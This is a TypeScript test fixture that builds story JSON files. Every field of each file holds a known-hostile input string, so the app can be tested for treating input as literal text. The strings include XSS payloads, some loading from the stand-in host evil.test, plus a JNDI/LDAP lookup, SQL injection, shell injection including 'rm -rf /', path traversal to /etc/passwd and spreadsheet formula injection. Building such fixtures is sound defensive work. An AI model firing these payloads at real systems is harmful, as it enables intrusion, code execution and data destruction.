import { filesOf, type HostileFile, json } from './hostile-file.ts'

/** Texts that would do something if anything took them for more than text. */
export const payloads: Readonly<Record<string, string>> = {
  script: '<script>alert(1)</script>',
  'script-src': '<script src=//evil.test/x.js></script>',
  image: '<img src=x onerror=alert(1)>',
  svg: '<svg/onload=alert(1)>',
  'svg-animate': '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  frame: '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
  math: '<math><mtext><table><mglyph><style><img src onerror=alert(1)>',
  template: '<template><s><template><s><img src=x onerror=alert(1)>@shadow',
  details: '<details open ontoggle=alert(1)>',
  input: '<input autofocus onfocus=alert(1)>',
  style: '<style>@import "//evil.test/x.css";</style>',
  link: '<link rel=stylesheet href=//evil.test/x.css>',
  base: '<base href=//evil.test/>',
  meta: '<meta http-equiv=refresh content="0;url=//evil.test">',
  form: '<form action=//evil.test><button>ok</button></form>',
  comment: '<!--><script>alert(1)</script-->',
  noscript: '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  attribute: '" onmouseover="alert(1)',
  'quote-breaking': '\'"></textarea><script>alert(1)</script>',
  entities: '&lt;script&gt;alert(1)&lt;/script&gt; &#x3c;b&#x3e;',
  'javascript-link': '[click](javascript:alert(1))',
  'javascript-tab-link': '[click](java\tscript:alert(1))',
  'data-link': '[click](data:text/html,<script>alert(1)</script>)',
  'vbscript-link': '[click](vbscript:msgbox)',
  'file-link': '[click](file:///etc/passwd)',
  'unc-link': '[click](\\\\evil.test\\share\\x) ![x](//evil.test/x.png)',
  'protocol-link': '[click](ms-msdt:/id) <smb://evil.test/x>',
  'auto-link': '<javascript:alert(1)> https://evil.test/?q=1',
  'template-braces': '{{constructor.constructor("alert(1)")()}} $'.concat('{alert(1)} #{1} <%= 1 %>'),
  lookup: '$'.concat('{jndi:ldap://evil.test/a}'),
  sql: "'; DROP TABLE stories; --",
  shell: '$(touch /tmp/x) `id` ; rm -rf / | cat',
  path: '../../../../etc/passwd %2e%2e%2f ..\\..\\windows',
  device: 'CON NUL COM1 aux.txt',
  formula: "=cmd|' /C calc'!A0",
  'format-string': '%s%s%n%x {0} %d',
  'null-words': 'null undefined NaN true [object Object]',
  bidirectional: '\u202etxt.exe\u2066 hidden \u2069 \u200f',
  'zero-width': 'o\u200bw\u200cn\u200de\u2060r\ufeffship',
  combining: `z${'\u0335\u0321\u0336'.repeat(100)}`,
  'look-alikes': 'Ѕіtuаtіоn: Таѕk: Асtіоn:',
  emoji: '👩‍👩‍👧‍👦🏳️‍🌈👍🏽',
  surrogates: '\ud800 \udfff \ud83d',
  controls: 'a\u0000b\u0007c\u001b[31mred\u001b[0m\u0085\u2028\u2029',
  'long-word': 'x'.repeat(2_000),
  'many-lines': '\n'.repeat(500),
  percent: '%00 %0d%0a %c0%af',
  regex: `${'a'.repeat(500)}!`,
}

/** Each payload in every text of a story, as JSON: taken, and taken literally (rule BF13). */
export function payloadFiles(): HostileFile[] {
  return filesOf(
    'payload',
    Object.entries(payloads).map(([name, text]) => {
      const story = {
        ...{ id: `id-${name}`, title: text, hook: text, situation: text, task: text, action: text, result: text },
        ...{ learning: text, project: text, employer: text, role: text, tags: [text], anchors: [text] },
        ...{ openingLine: text, closingLine: text, followUps: [{ question: text, answer: text }] },
        principles: [{ id: 'ownership', strength: 'primary', note: text }],
        metrics: [{ id: 'm', label: text, unit: text, timeframe: text, sourceNote: text, publicWording: text }],
      }
      return [`${name}.json`, json([story]), 'read story-list 1/1']
    }),
  )
}
